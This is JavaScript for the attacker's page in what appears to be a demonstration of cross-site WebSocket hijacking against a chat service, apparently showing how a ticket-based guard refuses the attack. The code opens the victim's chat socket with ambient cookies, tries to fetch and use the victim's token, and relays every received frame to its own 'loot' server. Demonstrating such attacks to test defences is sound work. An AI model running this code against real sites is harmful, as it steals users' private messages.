// The attacker's page. It waits for orders, opens the victim's chat and hands everything it reads to its own server.

const KEPT = 12;

const loot = new WebSocket(`wss://${location.host}${location.pathname.replace("/attack/", "/loot/")}`);

loot.onmessage = async ({ data }) => {
  const { target, recorder, victim } = JSON.parse(data);
  document.getElementById("target").textContent = target;
  if (recorder !== null) await ended(new WebSocket(recorder)); // notes which cookies this browser sends there
  attack(target, [], victim === null ? giveUp : () => attackWithToken(victim));
};
loot.onclose = () => tell("Its server is gone.", "");

// Cookies ride along by themselves. Where they are not enough, the victim's token would be.
function attack(target, protocols, otherwise) {
  const socket = new WebSocket(target, protocols);
  let opened = false;
  socket.onopen = () => {
    opened = true;
    tell("The socket is open. This page now reads:", "reading");
  };
  socket.onmessage = ({ data }) => {
    report({ event: "received", frame: data });
    show(data);
  };
  socket.onclose = ({ code }) => {
    tell(opened ? `The socket was closed (${code}).` : `Refused. All this page learns is “error”, close code ${code}.`, "closed");
    otherwise();
  };
}

async function attackWithToken(victim) {
  try {
    const token = (await (await fetch(`${victim}/token`, { credentials: "include" })).text()).trim();
    const { url, protocols } = await buyTicket(victim, token);
    attack(url, protocols, giveUp);
  } catch {
    report({ event: "token withheld" });
    tell("Refused: no ticket. And the browser does not let this page read the token that buys one.", "closed");
    giveUp();
  }
}

async function buyTicket(victim, token) {
  const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json" };
  const answer = await fetch(`${victim}/.wsguard/ticket`, { method: "POST", headers, body: JSON.stringify({ path: "/ws/chat" }) });
  return answer.ok ? answer.json() : Promise.reject(answer.status);
}

function giveUp() {
  report({ event: "closed" });
}

function ended(socket) {
  return new Promise((resolve) => {
    socket.onclose = resolve;
  });
}

function report(what) {
  if (loot.readyState === WebSocket.OPEN) loot.send(JSON.stringify(what));
}

function show(frame) {
  const list = document.getElementById("stolen");
  const item = document.createElement("li");
  item.textContent = frame;
  list.append(item);
  if (list.children.length > KEPT) list.firstElementChild.remove();
  list.hidden = false;
}

function tell(text, result) {
  const line = document.getElementById("result");
  line.textContent = text;
  line.dataset.result = result;
}
